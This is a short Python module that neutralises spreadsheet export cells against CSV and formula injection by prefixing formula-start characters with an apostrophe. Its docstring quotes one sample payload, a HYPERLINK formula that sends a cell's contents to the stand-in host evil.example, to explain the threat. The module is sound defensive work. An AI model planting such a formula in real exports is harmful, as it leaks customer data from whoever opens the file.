"""Spreadsheet cells that hold what was typed, never a formula.

A customer's system sets fields such as the customer PO through the API. Written verbatim, a value like
`=HYPERLINK("https://evil.example/?d="&B2,"Open PO")` runs as a formula when a merchandiser opens the
export in Excel or WPS (CSV and formula injection, OWASP). Every export passes its text through here.
"""

# What a spreadsheet may read as the start of a formula or a command.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral_text(value: str) -> str:
    """Text that a spreadsheet shows as typed: a leading formula character gets an apostrophe before it,
    which Excel and WPS take as "this is text" (OWASP's advice)."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def neutralise_sheet(sheet) -> None:
    """Every text cell of an openpyxl sheet stored as a string, never a formula."""
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.value = neutral_text(cell.value)
                cell.data_type = "s"  # openpyxl types text starting with "=" as a formula otherwise
